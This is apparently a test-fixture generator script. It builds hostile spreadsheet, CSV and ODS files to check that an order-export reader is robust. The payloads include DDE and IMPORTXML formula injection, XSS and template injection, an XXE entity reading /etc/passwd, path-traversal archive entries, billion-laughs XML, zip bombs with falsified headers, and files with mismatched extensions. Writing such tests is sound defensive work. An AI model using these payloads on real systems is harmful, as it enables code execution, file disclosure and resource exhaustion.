#!/usr/bin/env python3
"""Write the hostile-input corpus: files made to break, trick or exhaust the reader.

Usage: ``python tests/hostile/make_hostile.py [OUTDIR]`` (default: this folder). The small files
are committed; what each must do is in ``tests/test_hostile.py``. Big inputs (a real million-row
csv, a gigabyte zip bomb) are not committed: :func:`million_rows_csv` and friends write them at
test time. Output is deterministic: regenerating changes nothing unless a case changes.

Three families:

* exports that read fine but carry hostile text (formula injection, markup, template syntax,
  dangerous order numbers): they must come out as inert text in every file we write;
* archives and XML made to exhaust memory or time (zip bombs, entity expansion, sparse sheets
  whose used range is astronomically large, repeated ODS rows and columns);
* files that are not what their name says (PDF, PNG, random zip, empty zip ... named .xlsx).
"""

from __future__ import annotations

import csv
import gzip
import io
import random
import struct
import sys
import zipfile
import zlib
from collections.abc import Callable, Iterable, Sequence
from pathlib import Path
from xml.sax.saxutils import escape

HERE = Path(__file__).resolve().parent
DATE = (2026, 11, 1, 8, 0, 0)

HEADER = ["Order #", "Customer PO", "Ship Date", "Bill Customer", "Ship Customer", "Sales Rep",
          "Cargo Agency", "Market", "AWB", "DAE", "Species", "Variety", "Length", "Box Type",
          "Boxes", "Packed Boxes", "Bunches", "Stems/Bunch", "Stems", "Unit", "Unit Price",
          "Currency"]  # fmt: skip
TEXT_COLUMNS = ("Customer PO", "Bill Customer", "Ship Customer", "Sales Rep", "Cargo Agency",
                "Market", "AWB", "DAE", "Variety", "Length")  # fmt: skip

# What a spreadsheet would run: every prefix that starts a formula, and the classic payloads.
FORMULAS = (
    "=1+2",
    "+1+2",
    "-1+2",
    "@SUM(1,2)",
    "\t=1+2",
    "\r=1+2",
    '=HYPERLINK("http://x","y")',
    "=cmd|' /C calc'!A0",
    '=IMPORTXML(CONCAT("http://x/?",A1),"//a")',
    "-2+3+cmd|' /C calc'!A0",
)
MARKUP = (
    "<script>alert(1)</script>",
    "{{ 7*7 }}",
    "<img src=file:///etc/passwd>",
    "<link rel=stylesheet href=http://evil/x.css>",
    "{% for x in range(10**9) %}x{% endfor %}",
    "<style>@import url(http://evil/y.css);</style>",
    '<iframe src="http://evil/"></iframe>',
    "</td></tr></table><h1>forged</h1>",
    "&lt;escaped&gt; &amp; ${7*7} #{7*7}",
    "<svg onload=alert(1)><image href=file:///etc/shadow /></svg>",
)
ORDER_NUMBERS = (
    "../../etc/passwd",
    "CON",
    "a/b",
    "x" * 300,
    "nul\x00byte",
    "..",
    "nul.pdf",
    "COM1",
    "a\\b\\..\\c",
    "\u202etxt.exe",
    "~$lock",
    "-rf",
    'star*question?<pipe>|colon:"',
    " leading and trailing ",
    "ünïcödé/ñ",
)


# --- writers -----------------------------------------------------------------------------------


def zipped(path: Path, parts: dict[str, bytes | str], *, level: int = 9) -> Path:
    """A zip archive with fixed dates, deflated."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as zf:
        for name, data in parts.items():
            info = zipfile.ZipInfo(name, date_time=DATE)
            info.compress_type = zipfile.ZIP_DEFLATED
            zf.writestr(info, data)
    path.write_bytes(buffer.getvalue())
    return path


_CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
    '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
    '<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>'
    "</Types>"
)
_ROOT_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/>'
    "</Relationships>"
)
_WORKBOOK = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n{doctype}'
    '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
    '<sheets><sheet name="{name}" sheetId="1" r:id="rId1"/></sheets></workbook>'
)
_WORKBOOK_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/>'
    '<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings" Target="sharedStrings.xml"/>'
    "</Relationships>"
)
_SHEET = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
    "<sheetData>{rows}</sheetData></worksheet>"
)


def column_letters(index: int) -> str:
    """0 -> A, 16383 -> XFD."""
    letters = ""
    index += 1
    while index:
        index, rem = divmod(index - 1, 26)
        letters = chr(65 + rem) + letters
    return letters


def excel_text(text: str) -> str:
    """Text for a ``<t>`` element: XML entities, control characters as Excel's ``_xHHHH_``."""
    out = "".join(f"_x{ord(c):04X}_" if ord(c) < 32 and c not in "\t\n\r" else c for c in text)
    return escape(out).replace("\r", "_x000D_")


def cell(ref: str, value: object, formula: str = "") -> str:
    """One ``<c>``: a number, or an inline string; with a formula and its cached value."""
    f = f"<f>{escape(formula)}</f>" if formula else ""
    if value is None:
        return f'<c r="{ref}">{f}</c>' if f else ""
    if isinstance(value, int | float):
        return f'<c r="{ref}">{f}<v>{value}</v></c>'
    if formula:
        return f'<c r="{ref}" t="str">{f}<v>{excel_text(str(value))}</v></c>'
    return f'<c r="{ref}" t="inlineStr"><is><t xml:space="preserve">{excel_text(str(value))}</t></is></c>'


def sheet_rows(rows: Iterable[tuple[int, Sequence[object]]]) -> str:
    """``<row>`` elements from (1-based row number, values from column A)."""
    out = []
    for r, values in rows:
        cells = "".join(cell(f"{column_letters(c)}{r}", v) for c, v in enumerate(values))
        out.append(f'<row r="{r}">{cells}</row>')
    return "".join(out)


def raw_xlsx(
    path: Path,
    sheet_xml: str | bytes,
    *,
    shared: str | bytes = "",
    workbook_doctype: str = "",
    sheet_name: str = "Orders",
    extra: dict[str, bytes | str] | None = None,
) -> Path:
    """A minimal hand-made workbook around one worksheet's XML (and optional shared strings)."""
    sst = shared or (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="0" '
        'uniqueCount="0"/>'
    )
    parts: dict[str, bytes | str] = {
        "[Content_Types].xml": _CONTENT_TYPES,
        "_rels/.rels": _ROOT_RELS,
        "xl/workbook.xml": _WORKBOOK.format(doctype=workbook_doctype, name=sheet_name),
        "xl/_rels/workbook.xml.rels": _WORKBOOK_RELS,
        "xl/worksheets/sheet1.xml": sheet_xml,
        "xl/sharedStrings.xml": sst,
        **(extra or {}),
    }
    return zipped(path, parts)


def export_xlsx(path: Path, rows: Sequence[Sequence[object]], **kw) -> Path:
    """An export workbook with ``rows`` (header first) from A1."""
    return raw_xlsx(path, _SHEET.format(rows=sheet_rows(enumerate(rows, 1))), **kw)


def write_csv(path: Path, rows: Iterable[Sequence[object]]) -> Path:
    """Rows as a UTF-8 csv with CRLF line ends, as Excel writes it."""
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\r\n").writerows(rows)
    path.write_bytes(buffer.getvalue().encode("utf-8"))
    return path


def order_row(order_no: str, **text: str) -> list[object]:
    """One clean export line; ``text`` replaces text columns by header."""
    values: dict[str, object] = {
        "Order #": order_no, "Customer PO": "C-1", "Ship Date": "2026-11-20",
        "Bill Customer": "BLOOM WHOLESALE INC", "Ship Customer": "BLOOM / MARK A",
        "Sales Rep": "Ana Torres", "Cargo Agency": "Andes Cargo", "Market": "US",
        "AWB": "369-12345675", "DAE": "055-2026-40-00012345", "Species": "Roses",
        "Variety": "Freedom", "Length": "60", "Box Type": "HB", "Boxes": 2, "Packed Boxes": 2,
        "Bunches": 20, "Stems/Bunch": 25, "Stems": 500, "Unit": "stem", "Unit Price": 0.35,
        "Currency": "USD",
    }  # fmt: skip
    values.update(text)
    return [values[h] for h in HEADER]


# A currency that would close a string inside a formula the workbook builds from currencies.
CURRENCY_BREAKOUT = 'X"&HYPERLINK("http://x/","y")&"'


def formula_rows() -> list[list[object]]:
    """One order per formula payload, the payload in every text field of it; the last order's
    currency tries to break out of a formula's string."""
    rows: list[list[object]] = [HEADER]
    for i, payload in enumerate(FORMULAS, 1):
        text = {c: f"{payload}" for c in TEXT_COLUMNS}
        text["Bill Customer"] = f"{payload} CUSTOMER {i}"
        if i == len(FORMULAS):
            text["Currency"] = CURRENCY_BREAKOUT
        rows.append(order_row(f"{payload}#{i}", **text))
    return rows


def markup_rows() -> list[list[object]]:
    """One order per markup payload, in the customer names, PO, AWB, variety and more."""
    rows: list[list[object]] = [HEADER]
    for i, payload in enumerate(MARKUP, 1):
        text = {c: payload for c in TEXT_COLUMNS}
        text["Bill Customer"] = f"{payload} {i}"
        rows.append(order_row(f"M-{i}", **text))
    return rows


def order_number_rows() -> list[list[object]]:
    """One clean order per dangerous order number."""
    rows: list[list[object]] = [HEADER]
    rows += [order_row(n, **{"Customer PO": f"PO {i}"}) for i, n in enumerate(ORDER_NUMBERS, 1)]
    return rows


def formula_cells_sheet() -> str:
    """A real export line whose cells are formulas (DDE, HYPERLINK) with cached values."""
    values = order_row("FC-1", **{"Bill Customer": "DDE INC", "Customer PO": "y"})
    formulas = {"Bill Customer": "cmd|' /C calc'!A0", "Customer PO": 'HYPERLINK("http://x","y")',
                "Variety": "1+2"}  # fmt: skip
    cells = "".join(
        cell(f"{column_letters(c)}2", v, formula=formulas.get(h, ""))
        for c, (h, v) in enumerate(zip(HEADER, values, strict=True))
    )
    return _SHEET.format(rows=sheet_rows([(1, HEADER)]) + f'<row r="2">{cells}</row>')


def nested_formula_sheet(depth: int) -> str:
    """A real export line whose unit price is a formula nested ``depth`` levels deep."""
    formula = "IF(" * depth + "1" + ",1,1)" * depth
    cells = "".join(
        cell(f"{column_letters(c)}2", v, formula=formula if h == "Unit Price" else "")
        for c, (h, v) in enumerate(zip(HEADER, order_row("NEST-1"), strict=True))
    )
    return _SHEET.format(rows=sheet_rows([(1, HEADER)]) + f'<row r="2">{cells}</row>')


# --- exhausting archives and XML --------------------------------------------------------------


def deflate_raw(data_chunks: Iterable[bytes]) -> tuple[bytes, int, int]:
    """Raw deflate of the chunks; (compressed, crc32, size)."""
    comp = zlib.compressobj(9, zlib.DEFLATED, -15)
    out, crc, size = [], 0, 0
    for chunk in data_chunks:
        out.append(comp.compress(chunk))
        crc = zlib.crc32(chunk, crc)
        size += len(chunk)
    out.append(comp.flush())
    return b"".join(out), crc, size


def lying_zip(path: Path, parts: dict[str, bytes | str], big: str, big_data: Iterable[bytes],
              *, declared: int) -> Path:  # fmt: skip
    """A zip whose ``big`` entry says it holds ``declared`` bytes but inflates to much more."""
    entries = [(n, d.encode() if isinstance(d, str) else d) for n, d in parts.items()]
    out, central = io.BytesIO(), []
    for name, data in [*entries, (big, None)]:
        if data is None:
            comp, crc, _ = deflate_raw(big_data)
            size = declared
        else:
            comp, crc, size = deflate_raw([data])
        offset = out.tell()
        raw = name.encode()
        out.write(struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, 0, 8, 0x4000, 0x5B61, crc,
                              len(comp), size, len(raw), 0))  # fmt: skip
        out.write(raw + comp)
        central.append(struct.pack("<4s6H3L5H2L", b"PK\x01\x02", 20, 20, 0, 8, 0x4000, 0x5B61,
                                   crc, len(comp), size, len(raw), 0, 0, 0, 0, 0, offset) + raw)  # fmt: skip
    start = out.tell()
    for c in central:
        out.write(c)
    end = out.tell()
    out.write(struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, len(central), len(central),
                          end - start, start, 0))  # fmt: skip
    path.write_bytes(out.getvalue())
    return path


def declared_size_zip(path: Path, parts: dict[str, bytes | str], big: str, declared: int) -> Path:
    """A zip that claims (in both its headers) that ``big`` holds ``declared`` bytes."""
    zipped(path, {**parts, big: b"<x/>"})
    data = bytearray(path.read_bytes())
    raw = big.encode()
    # (signature, offset of the uncompressed size, of the name length, of the name)
    for sig, size_at, len_at, name_at in ((b"PK\x03\x04", 22, 26, 30), (b"PK\x01\x02", 24, 28, 46)):
        at = data.find(sig)
        while at >= 0:
            (name_len,) = struct.unpack_from("<H", data, at + len_at)
            if bytes(data[at + name_at : at + name_at + name_len]) == raw:
                struct.pack_into("<L", data, at + size_at, declared)
            at = data.find(sig, at + 4)
    path.write_bytes(bytes(data))
    return path


def zeros(total: int, chunk: int = 1 << 20) -> Iterable[bytes]:
    """``total`` bytes of spaces (valid XML whitespace, and as compressible as zeros)."""
    block = b" " * chunk
    while total > 0:
        yield block[: min(chunk, total)]
        total -= chunk


def bomb_sheet_chunks(total: int) -> Iterable[bytes]:
    """A worksheet whose middle is ``total`` bytes of whitespace."""
    yield (_SHEET.split("{rows}")[0] + sheet_rows([(1, ["Order #", "Bill Customer"])])).encode()
    yield from zeros(total)
    yield _SHEET.split("{rows}")[1].encode()


LAUGHS = (
    '<!DOCTYPE lolz [<!ENTITY lol "lol">'
    + "".join(
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'
        for i in range(1, 10)
    )
    + "]>"
)


def sst_with(doctype: str, text: str) -> str:
    """A shared-string table with a DOCTYPE and a second string left unescaped (an entity)."""
    return (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n{doctype}'
        '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="2" '
        f'uniqueCount="2"><si><t>Order #</t></si><si><t>{text}</t></si></sst>'
    )


SHARED_HEADER_SHEET = _SHEET.format(
    rows='<row r="1"><c r="A1" t="s"><v>0</v></c><c r="B1" t="s"><v>1</v></c></row>'
    '<row r="2"><c r="A2"><v>1</v></c><c r="B2" t="s"><v>1</v></c></row>'
)


def ods(path: Path, rows_xml: str) -> Path:
    """An OpenDocument spreadsheet with one table made of ``rows_xml``."""
    content = (
        '<?xml version="1.0" encoding="UTF-8"?>\n<office:document-content '
        'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
        'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
        'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" office:version="1.2">'
        '<office:body><office:spreadsheet><table:table table:name="Orders">'
        f"{rows_xml}</table:table></office:spreadsheet></office:body></office:document-content>"
    )
    manifest = (
        '<?xml version="1.0" encoding="UTF-8"?>\n<manifest:manifest '
        'xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.2">'
        '<manifest:file-entry manifest:full-path="/" '
        'manifest:media-type="application/vnd.oasis.opendocument.spreadsheet"/>'
        '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>'
        "</manifest:manifest>"
    )
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as zf:
        zf.writestr(zipfile.ZipInfo("mimetype", date_time=DATE),
                    "application/vnd.oasis.opendocument.spreadsheet")  # fmt: skip
        for name, data in (("content.xml", content), ("META-INF/manifest.xml", manifest)):
            info = zipfile.ZipInfo(name, date_time=DATE)
            info.compress_type = zipfile.ZIP_DEFLATED
            zf.writestr(info, data)
    path.write_bytes(buffer.getvalue())
    return path


def ods_cell(text: str, repeat: int = 1) -> str:
    """A string cell of an ODS table, repeated across ``repeat`` columns."""
    rep = f' table:number-columns-repeated="{repeat}"' if repeat > 1 else ""
    return (f'<table:table-cell{rep} office:value-type="string"><text:p>{escape(text)}</text:p>'
            "</table:table-cell>")  # fmt: skip


def ods_row(cells: str, repeat: int = 1) -> str:
    """A row of an ODS table, repeated down ``repeat`` rows."""
    rep = f' table:number-rows-repeated="{repeat}"' if repeat > 1 else ""
    return f"<table:table-row{rep}>{cells}</table:table-row>"


# --- files of another kind ---------------------------------------------------------------------


def tiny_png() -> bytes:
    """A valid 1x1 PNG image."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        )

    ihdr = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", ihdr)
        + chunk(b"IDAT", zlib.compress(b"\0\0\0\0"))
        + chunk(b"IEND", b"")
    )


TINY_PDF = (
    b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
    b"2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
    b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]>>endobj\n"
    b"trailer<</Root 1 0 R>>\n%%EOF\n"
)
TINY_JPEG = bytes.fromhex("ffd8ffe000104a46494600010100000100010000ffd9")


# --- the corpus ----------------------------------------------------------------------------------


def _parts() -> dict[str, bytes | str]:
    """The parts of a workbook around its one worksheet (added by the caller)."""
    return {
        "[Content_Types].xml": _CONTENT_TYPES,
        "_rels/.rels": _ROOT_RELS,
        "xl/workbook.xml": _WORKBOOK.format(doctype="", name="Orders"),
        "xl/_rels/workbook.xml.rels": _WORKBOOK_RELS,
    }


def _rows_sheet(rows: Sequence[Sequence[object]], tail: str = "") -> str:
    """A worksheet with ``rows`` from row 1, then the raw XML ``tail``."""
    return _SHEET.format(rows=sheet_rows(enumerate(rows, 1)) + tail)


def _nul_rows() -> list[list[object]]:
    """80 clean lines (past the 4 KB an encoding sniffer reads), then NUL bytes in a line."""
    rows: list[list[object]] = [HEADER, *(order_row(f"N-{i}") for i in range(1, 81))]
    rows.append(order_row("NUL\x00-81", **{"Bill Customer": "BLOOM\x00 WHOLESALE INC"}))
    return rows


def _control_rows() -> list[list[object]]:
    """A clean order whose text holds control, escape and bidirectional characters."""
    text = {
        "Bill Customer": "BELL\x07 BACK\x08SPACE \x1b[31mRED\x1b[0m \u202eDESREVER",
        "Variety": "zero\u200bwidth \ufeffbom",
        "Customer PO": "_x0041_ escaped?",
    }
    return [HEADER, order_row("CC-1", **text)]


LAUGHS_SHEET = _rows_sheet([HEADER, order_row("LOL-1")])
XXE = '<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
ONE_ORDER = [HEADER, order_row("ZIP-1")]
BUILDERS: dict[str, Callable[[Path], object]] = {
    # Hostile text in exports that read fine: it must come out as inert text.
    "formula_injection.csv": lambda p: write_csv(p, formula_rows()),
    "formula_injection.xlsx": lambda p: export_xlsx(p, formula_rows()),
    "markup_in_names.csv": lambda p: write_csv(p, markup_rows()),
    "markup_in_names.xlsx": lambda p: export_xlsx(p, markup_rows()),
    "hostile_order_numbers.xlsx": lambda p: export_xlsx(p, order_number_rows()),
    "formula_cells.xlsx": lambda p: raw_xlsx(p, formula_cells_sheet()),
    "control_characters.csv": lambda p: write_csv(p, _control_rows()),
    "nul_after_4k.csv": lambda p: write_csv(p, _nul_rows()),
    "macro_workbook.xlsm": lambda p: export_xlsx(
        p, ONE_ORDER, extra={"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0" + bytes(60)}
    ),
    "traversal_entry_names.xlsx": lambda p: export_xlsx(
        p, ONE_ORDER, extra={"../../../../tmp/massinvoice-evil.txt": b"x", "/etc/evil": b"x"}
    ),
    "nested_formula.xlsx": lambda p: raw_xlsx(p, nested_formula_sheet(5000)),
    "billion_laughs_workbook.xlsx": lambda p: raw_xlsx(p, LAUGHS_SHEET, workbook_doctype=LAUGHS),
    # Archives and XML made to exhaust memory or time.
    "zip_bomb_ratio.xlsx": lambda p: raw_xlsx(p, b"".join(bomb_sheet_chunks(32 << 20))),
    "zip_bomb_lying_header.xlsx": lambda p: lying_zip(
        p, _parts(), "xl/worksheets/sheet1.xml", bomb_sheet_chunks(32 << 20), declared=4096
    ),
    "zip_bomb_declared_4gib.xlsx": lambda p: declared_size_zip(
        p, _parts(), "xl/worksheets/sheet1.xml", 0xFFFFFFFF
    ),
    "billion_laughs_strings.xlsx": lambda p: raw_xlsx(
        p, SHARED_HEADER_SHEET, shared=sst_with(LAUGHS, "&lol9;")
    ),
    "external_entity.xlsx": lambda p: raw_xlsx(
        p, SHARED_HEADER_SHEET, shared=sst_with(XXE, "&xxe;")
    ),
    "sparse_far_corner.xlsx": lambda p: raw_xlsx(
        p, _rows_sheet([HEADER], f'<row r="1048576">{cell("XFD1048576", "x")}</row>')
    ),
    "sparse_far_column.xlsx": lambda p: raw_xlsx(
        p, _rows_sheet([HEADER, order_row("SP-1")], f'<row r="3">{cell("XFD3", "far")}</row>')
    ),
    "sparse_far_row.xlsx": lambda p: raw_xlsx(
        p,
        _rows_sheet([HEADER, order_row("SP-2")], f'<row r="1048576">{cell("A1048576", "x")}</row>'),
    ),
    "duplicate_cell_reference.xlsx": lambda p: raw_xlsx(
        p, _rows_sheet([HEADER], '<row r="2"><c r="A2" r="XFD1048576"><v>1</v></c></row>')
    ),
    "spaced_cell_reference.xlsx": lambda p: raw_xlsx(
        p, _rows_sheet([HEADER], "<row r='2'><c r = 'XFD1048576'><v>1</v></c></row>")
    ),
    "lowercase_cell_reference.xlsx": lambda p: raw_xlsx(
        p, _rows_sheet([HEADER, order_row("SP-3")], f'<row r="3">{cell("xfd400000", "x")}</row>')
    ),
    "four_letter_column.xlsx": lambda p: raw_xlsx(
        p, _rows_sheet([HEADER, order_row("SP-4")], f'<row r="3">{cell("ZZZZ5000", "x")}</row>')
    ),
    "quoted_bracket_cell_reference.xlsx": lambda p: raw_xlsx(
        p, _rows_sheet([HEADER], '<row r="2"><c t=">" r="XFD1048576"><v>1</v></c></row>')
    ),
    "implicit_cells_far.xlsx": lambda p: raw_xlsx(
        p,
        _SHEET.format(
            rows='<row r="1">' + "<c><v>1</v></c>" * 4000 + "</row>"
            '<row r="1048576"><c t="inlineStr"><is><t>x</t></is></c></row>'
        ),
    ),
    "columns_16000.xlsx": lambda p: raw_xlsx(
        p, _rows_sheet([[*HEADER, *(f"E{i}" for i in range(16000 - len(HEADER)))]])
    ),
    "columns_16000.csv": lambda p: write_csv(
        p, [[*HEADER, *(f"E{i}" for i in range(16000 - len(HEADER)))], order_row("WIDE-2")]
    ),
    "deep_xml_nesting.xlsx": lambda p: raw_xlsx(
        p, _rows_sheet([HEADER], "<x>" * 100_000 + "</x>" * 100_000)
    ),
    "ods_repeated_rows.ods": lambda p: ods(
        p,
        ods_row(ods_cell("Order #") + ods_cell("Bill Customer"))
        + ods_row(ods_cell("x", 16384), 1_048_575),
    ),
    "ods_repeated_columns.ods": lambda p: ods(
        p,
        ods_row(ods_cell("Order #") + ods_cell("Bill Customer"))
        + ods_row(ods_cell("x", 16000), 1000),
    ),
    "ods_repeated_rows_narrow.ods": lambda p: ods(
        p,
        ods_row(ods_cell("Order #") + ods_cell("Bill Customer"))
        + ods_row(ods_cell("x", 2), 1_000_000),
    ),
    # Not what the name says.
    "pdf_document.xlsx": lambda p: p.write_bytes(TINY_PDF),
    "png_image.xlsx": lambda p: p.write_bytes(tiny_png()),
    "jpeg_image.ods": lambda p: p.write_bytes(TINY_JPEG),
    "random_files.xlsx": lambda p: zipped(
        p, {f"file{i}.bin": random.Random(i).randbytes(64) for i in range(5)}
    ),
    "empty_zip.xlsx": lambda p: zipped(p, {}),
    "word_document.xlsx": lambda p: zipped(
        p, {"[Content_Types].xml": "<Types/>", "word/document.xml": "<w:document/>"}
    ),
    "gzip_data.csv": lambda p: p.write_bytes(gzip.compress(b"Order #,Customer\n1,A\n", mtime=0)),
    "windows_program.xls": lambda p: p.write_bytes(b"MZ\x90\x00" + bytes(124)),
    "truncated_sheet_xml.xlsx": lambda p: raw_xlsx(
        p, _rows_sheet([HEADER, order_row("TR-1")])[:400]
    ),
    "missing_sheet_part.xlsx": lambda p: zipped(p, _parts()),
    "unclosed_quote.csv": lambda p: p.write_bytes(
        ",".join(HEADER).encode() + b'\r\nQ-1,"never closed,' + b"x," * 2000 + b"\r\n"
    ),
}


def make(out: Path = HERE) -> list[Path]:
    """Write every committed case into ``out``; return their paths."""
    out.mkdir(parents=True, exist_ok=True)
    made = []
    for name, build in BUILDERS.items():
        build(out / name)
        made.append(out / name)
    return made


# --- big inputs, written at test time ----------------------------------------------------------


def million_rows_csv(path: Path, rows: int = 1_000_000) -> Path:
    """A real export of ``rows`` order lines (about 110 MB)."""
    with open(path, "w", newline="", encoding="utf-8") as f:
        w = csv.writer(f)
        w.writerow(HEADER)
        base = order_row("X")
        for i in range(rows):
            base[0] = f"R-{i // 3:07d}"
            w.writerow(base)
    return path


def sparse_million_rows_xlsx(path: Path, rows: int = 1_000_000) -> Path:
    """A workbook with a header and ``rows`` one-cell rows (each row a real, separate row)."""

    def chunks() -> Iterable[bytes]:
        yield (_SHEET.split("{rows}")[0] + sheet_rows([(1, HEADER)])).encode()
        for start in range(2, rows + 2, 10_000):
            yield "".join(f'<row r="{r}"><c r="A{r}"><v>{r}</v></c></row>'
                          for r in range(start, min(start + 10_000, rows + 2))).encode()  # fmt: skip
        yield _SHEET.split("{rows}")[1].encode()

    return raw_xlsx(path, b"".join(chunks()))


def gigabyte_zip_bomb(path: Path, size: int = 4 << 30) -> Path:
    """A workbook whose sheet inflates to ``size`` bytes (4 GiB: about 4 MB on disk)."""
    return lying_zip(
        path, _parts(), "xl/worksheets/sheet1.xml", bomb_sheet_chunks(size), declared=4096
    )


if __name__ == "__main__":
    target = Path(sys.argv[1]) if len(sys.argv) > 1 else HERE
    for made_path in make(target):
        print(f"{made_path.stat().st_size:>9}  {made_path.name}")
